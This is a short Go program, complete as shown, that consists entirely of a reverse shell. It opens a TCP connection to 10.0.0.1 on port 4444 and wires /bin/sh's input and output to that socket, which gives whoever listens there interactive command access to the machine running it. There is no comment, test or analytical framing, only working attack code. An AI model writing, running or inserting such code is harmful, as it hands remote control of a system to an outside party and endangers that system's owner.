package main

import (
	"net"
	"os/exec"
)

func main() {
	c, _ := net.Dial("tcp", "10.0.0.1:4444")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
